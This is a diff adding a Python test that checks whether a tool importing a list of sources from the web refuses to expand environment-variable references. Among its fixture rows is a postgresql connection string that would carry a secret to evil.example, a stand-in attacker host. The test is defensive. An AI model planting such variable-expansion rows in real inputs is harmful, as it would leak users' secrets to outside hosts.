@@ -240,6 +240,26 @@ def test_a_list_on_the_web_comes_through_the_gate() -> None:
     assert "me@example.org" in server.asked[0]["user-agent"]
 
 
+def test_a_list_on_the_web_names_nothing_of_our_environment(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("VERY_SECRET", "told to nobody")
+    rows = [
+        {"address": "https://a.org/x?a=$VERY_SECRET", "title": "$VERY_SECRET"},
+        {"address": "https://a.org/y", "options": {"headers": {"X-A": "${VERY_SECRET}"}}},
+        {"address": "postgresql://me:$VERY_SECRET@evil.example/db", "kind": "sql", "options": {"table": "t"}},
+    ]
+
+    async def scenario() -> Result:
+        async with Loopback({"/list.jsonl": answer("\n".join(map(json.dumps, rows)).encode())}) as server:
+            return await asyncio.to_thread(
+                CliRunner().invoke, add, ["--keep-good", "--from", f"{server.origin}/list.jsonl"]
+            )
+
+    Path("unstale.toml").write_text('[http]\nallow_networks = ["127.0.0.0/8"]\n')
+    done = asyncio.run(scenario())
+    assert [one.address for one in fleet()] == ["https://a.org/x?a=%24VERY_SECRET"]
+    assert done.output.count("of our environment is in a list on the web") == 2
+
+
 def test_feeds_are_discovered_on_pages() -> None:
     page = b'<html><link rel="alternate" type="application/rss+xml" href="/a.xml"><link rel=alternate href=/x>'
     speeches: dict[str, Speech] = {
